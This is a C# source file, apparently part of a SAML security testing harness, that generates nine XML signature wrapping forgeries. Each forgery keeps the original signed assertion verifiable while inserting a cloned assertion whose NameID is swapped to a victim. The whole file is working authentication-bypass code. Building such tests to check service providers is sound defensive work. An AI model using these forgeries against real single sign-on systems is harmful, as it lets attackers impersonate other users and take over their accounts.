using System.Xml;
using Gatehouse.Idp;

namespace Gatehouse.Attack;

/// <summary>
/// Signature wrapping (rows A1 and A2): what was signed is still there and verifies, and somebody else stands where the reader looks. Places as in
/// "On Breaking SAML" (Somorovsky et al., 2012).
/// </summary>
static class Wrapping
{
    public static IEnumerable<Forgery> All(SamlForger forger)
    {
        foreach (var (number, response, wrap) in Places)
        {
            var document = SamlForger.Parse(forger.Signed(response: response));
            var original = response ? document.DocumentElement! : SamlForger.Assertion(document);
            wrap(document, original, Evil(original));
            yield return new("A1", $"signature wrapping {number} ({(response ? "Response" : "Assertion")})", SamlForger.Sent(document.OuterXml));
        }
    }

    static readonly (int Number, bool Response, Action<XmlDocument, XmlElement, XmlElement> Wrap)[] Places =
    [
        (1, true, (document, original, evil) =>
        {
            var signature = Take(original);
            document.ReplaceChild(evil, original);
            signature.AppendChild(original);
            evil.InsertAfter(signature, evil["Issuer", Names.Assertion]);
        }),
        (2, true, (document, original, evil) =>
        {
            var signature = Take(original);
            document.ReplaceChild(evil, original);
            evil.InsertAfter(signature, evil["Issuer", Names.Assertion]);
            evil.InsertBefore(original, signature);
        }),
        (3, false, (_, original, evil) => original.ParentNode!.InsertBefore(evil, original)),
        (4, false, (_, original, evil) =>
        {
            original.ParentNode!.ReplaceChild(evil, original);
            evil.AppendChild(original);
        }),
        (5, false, (_, original, evil) =>
        {
            var (signature, response) = (Take(original), original.ParentNode!);
            response.ReplaceChild(evil, original);
            evil.InsertAfter(signature, evil["Issuer", Names.Assertion]);
            response.AppendChild(original);
        }),
        (6, false, (_, original, evil) =>
        {
            var signature = Take(original);
            original.ParentNode!.ReplaceChild(evil, original);
            evil.InsertAfter(signature, evil["Issuer", Names.Assertion]);
            signature.AppendChild(original);
        }),
        (7, false, (document, original, evil) =>
        {
            var extensions = document.CreateElement("samlp", "Extensions", Names.Protocol);
            original.ParentNode!.InsertBefore(extensions, original);
            extensions.AppendChild(evil);
        }),
        (8, false, (document, original, evil) =>
        {
            var (signature, inside) = (Take(original), document.CreateElement("ds", "Object", Names.Signature));
            original.ParentNode!.ReplaceChild(evil, original);
            evil.InsertAfter(signature, evil["Issuer", Names.Assertion]);
            signature.AppendChild(inside);
            inside.AppendChild(original);
        }),
        (9, false, (document, original, evil) =>
        {
            // The reader takes the last one, or the first of an extension.
            original.ParentNode!.AppendChild(evil);
            evil.SetAttribute("ID", original.GetAttribute("ID"));
        }),
    ];

    static XmlElement Evil(XmlElement original)
    {
        var evil = (XmlElement)original.CloneNode(deep: true);
        evil.SetAttribute("ID", "_evil");
        if (evil["Signature", Names.Signature] is { } signature) evil.RemoveChild(signature);
        foreach (var name in evil.GetElementsByTagName("NameID", Names.Assertion).Cast<XmlElement>().ToList()) name.InnerText = SamlForger.Victim;
        return evil;
    }

    static XmlElement Take(XmlElement original)
    {
        var signature = original["Signature", Names.Signature]!;
        original.RemoveChild(signature);
        return signature;
    }
}
